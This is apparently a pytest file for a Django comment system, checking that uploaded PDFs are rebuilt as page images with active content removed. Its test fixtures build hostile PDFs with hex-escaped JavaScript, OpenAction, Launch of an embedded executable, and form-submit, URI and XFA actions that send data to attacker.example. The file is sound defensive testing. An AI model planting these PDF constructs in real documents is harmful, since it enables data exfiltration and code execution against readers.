"""A reader's PDF is stored rebuilt from pictures of its pages: nothing active survives."""

import io
import re

import pytest
from django.conf import settings
from PIL import Image
from pypdf import PdfReader

from comments.models import Comment
from tests.factories import file_upload

from . import pdfs
from .helpers import send, stored_files

pytestmark = pytest.mark.django_db

ATTACKER = b"(https://attacker.example/collect)"

HOSTILE = {
    # A legal hex escape: PDF readers read /J#61vaScript as /JavaScript, /J#53 as /JS.
    "hex-escaped-javascript": lambda: pdfs.document(
        catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
    ),
    # The catalog and its script live inside a compressed object stream.
    "javascript-in-object-stream": lambda: pdfs.document(
        catalog=b"/OpenAction 5 0 R",
        extra={5: b"<< /S /JavaScript /JS (this.submitForm('https://attacker.example/')) >>"},
        packed=(1, 5),
    ),
    "open-action-uri-and-link": lambda: pdfs.document(
        catalog=b"/OpenAction << /S /URI /URI " + ATTACKER + b" >>",
        page=b"/Annots [6 0 R]",
        extra={
            6: b"<< /Type /Annot /Subtype /Link /Rect [72 590 500 650]"
            b" /A << /S /URI /URI " + ATTACKER + b" >> >>"
        },
    ),
    "submit-form-with-xfa": lambda: pdfs.document(
        catalog=b"/AcroForm << /Fields [7 0 R] /XFA 8 0 R >> /NeedsRendering false",
        page=b"/Annots [7 0 R]",
        extra={
            7: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (ho_ten) /Rect [72 500 300 530]"
            b" /P 10 0 R /AA << /Fo << /S /SubmitForm /F << /FS /URL /F " + ATTACKER + b" >>"
            b" /Flags 4 >> >> >>",
            8: pdfs.stream(
                b"",
                b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
                b'<event activity="docReady"><submit target="https://attacker.example/"/>'
                b"</event></subform></template></xdp:xdp>",
                compress=True,
            ),
        },
    ),
    "launch-and-embedded-file": lambda: pdfs.document(
        catalog=b"/Names << /EmbeddedFiles << /Names [(hoa-don.exe) 9 0 R] >> >>"
        b" /OpenAction << /S /Launch /F (hoa-don.exe) >>",
        page=b"/AA << /O << /S /JavaScript /JS (app.launchURL('https://attacker.example/')) >> >>",
        extra={
            5: pdfs.stream(b"/Type /EmbeddedFile", b"MZ\x90\x00" + b"\x00" * 60),
            9: b"<< /Type /Filespec /F (hoa-don.exe) /EF << /F 5 0 R >> >>",
        },
    ),
}


def stored_pdf(comment):
    return (settings.PRIVATE_MEDIA_ROOT / comment.attachment).read_bytes()


def assert_text_is_drawn_as_pixels(data):
    """The 48-point TEXT near the top of page 1 is dark pixels, and no longer text."""
    page = pdfs.page_pixels(data)
    assert pdfs.dark_share(page, (72, 150, 400, 200)) > 0.1
    assert pdfs.dark_share(page, (72, 400, 400, 500)) == 0
    assert PdfReader(io.BytesIO(data)).pages[0].extract_text() == ""


@pytest.mark.parametrize("make", HOSTILE.values(), ids=HOSTILE.keys())
def test_active_content_does_not_survive_the_rebuild(client, article, make):
    original = make()
    assert pdfs.active_names(original) & pdfs.ACTIVE_NAMES  # the attack is really there

    response = send(client, article, attachment=file_upload("don.pdf", original, "application/pdf"))
    assert response.status_code == 303
    comment = Comment.objects.get()
    data = stored_pdf(comment)
    assert data != original
    assert pdfs.active_names(data).isdisjoint(pdfs.ACTIVE_NAMES)
    assert b"attacker.example" not in data
    # Outside the page images, whose JPEG bytes could hold any three letters by chance.
    structure = re.sub(rb"stream\r?\n.*?endstream", b"", data, flags=re.DOTALL)
    for name in pdfs.ACTIVE_NAMES | {"/J#61vaScript", "/ObjStm"}:
        assert name.encode() not in structure
    assert len(PdfReader(io.BytesIO(data)).pages) == 1 == comment.attachment_pages
    assert_text_is_drawn_as_pixels(data)
    assert comment.attachment_size == len(data)


def test_every_page_is_rebuilt_with_its_own_preview(client, article):
    send(client, article, attachment=file_upload("don.pdf", pdfs.document(pages=3)))
    comment = Comment.objects.get()
    reader = PdfReader(io.BytesIO(stored_pdf(comment)))
    assert len(reader.pages) == 3 == comment.attachment_pages
    assert [page.mediabox[2:] for page in reader.pages] == [[612, 792]] * 3
    stem = comment.attachment.removesuffix(".pdf")
    previews = [f"{stem}-page{number}.jpg" for number in (1, 2, 3)]
    assert stored_files(settings.PRIVATE_MEDIA_ROOT) == sorted([comment.attachment, *previews])
    first = Image.open(settings.PRIVATE_MEDIA_ROOT / previews[0])
    assert first.format == "JPEG" and max(first.size) <= 1200
    assert first.size[0] / first.size[1] == pytest.approx(612 / 792, abs=0.01)


def test_pdf_that_opens_without_its_owner_password_is_stored_unencrypted(client, article):
    original = pdfs.encrypted(user_password="")
    assert b"/Encrypt" in original
    response = send(client, article, attachment=file_upload("khoa.pdf", original))
    assert response.status_code == 303
    data = stored_pdf(Comment.objects.get())
    assert not PdfReader(io.BytesIO(data)).is_encrypted
    assert_text_is_drawn_as_pixels(data)


@pytest.mark.parametrize(
    "media_box, points",
    [(b"0 0 14400 14400", 14400), (b"0 0 1000000 1000000", 14400)],
    ids=["200-inch-page", "page-past-the-pdf-limit"],
)
def test_absurd_page_size_is_drawn_at_a_reduced_scale(client, article, media_box, points):
    response = send(
        client, article, attachment=file_upload("to.pdf", pdfs.document(media_box=media_box))
    )
    assert response.status_code == 303
    comment = Comment.objects.get()
    page = PdfReader(io.BytesIO(stored_pdf(comment))).pages[0]
    assert page.mediabox[2:] == [points, points]
    (image,) = page.images
    assert image.image.width * image.image.height <= 4_000_000  # not 30,000 × 30,000
    preview = settings.PRIVATE_MEDIA_ROOT / comment.attachment.replace(".pdf", "-page1.jpg")
    assert max(Image.open(preview).size) <= 1200
